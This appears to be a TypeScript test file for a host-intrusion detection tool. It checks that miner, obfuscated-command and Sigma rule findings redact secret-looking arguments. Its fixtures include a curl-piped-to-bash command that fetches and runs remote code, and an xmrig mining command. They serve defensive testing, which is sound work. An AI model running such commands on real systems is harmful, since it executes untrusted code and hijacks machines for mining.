import assert from 'node:assert/strict';
import { test } from 'node:test';
import { judge } from './analyse.ts';
import { commandLineObfuscated } from './rules/command-line.ts';
import { miner } from './rules/miner.ts';
import { processRow, tablesOf } from './rules/tables.fixture.ts';
import { sigmaRules } from './sigma/index.ts';
import { toldDetails } from './told-details.ts';

test('commands within details lose what looks secret; all else stays', () => {
  const details = {
    ...{ command: 'psql --password=hunter2 postgres://ada:pw@db/x', path: '/tmp/a b', count: 3, address: 1n << 60n },
    list: [{ value: 'TOKEN=abc' }, undefined],
  };
  assert.deepEqual(toldDetails(details), {
    command: 'psql --password=<redacted, 7 characters> postgres://ada:<redacted, 2 characters>@db/x',
    ...{ path: '/tmp/a b', count: 3, address: '1152921504606846976' },
    list: [{ value: 'TOKEN=<redacted, 3 characters>' }, undefined],
  });
});

test('whatever a rule puts into a finding, no output has arguments that look secret', () => {
  const run = ['bash', '-c', 'curl -s --password=hunter2 http://x/a | bash'];
  const processes = [
    processRow({ name: 'xmrig', arguments: ['xmrig', '-o', 'stratum+tcp://x.org:3333', '--pass=hunter2'] }),
    processRow({ pid: 2, name: 'bash', arguments: run, executable: undefined }),
  ];
  const logsource = { product: 'linux', category: 'process_creation' };
  const detection = { selection: { 'CommandLine|contains': 'hunter2' }, condition: 'selection' };
  const { rules } = sigmaRules(
    [{ source: 'a.yml', document: { title: 'own', logsource, detection } }],
    () => undefined,
  );
  const findings = judge(tablesOf({ processes }), [miner, commandLineObfuscated, ...rules]);
  assert.deepEqual(new Set(findings.map(({ rule }) => rule)).size, 3);
  assert.doesNotMatch(JSON.stringify(findings), /hunter2/);
  assert.match(JSON.stringify(findings), /<redacted, 7 characters>/);
});
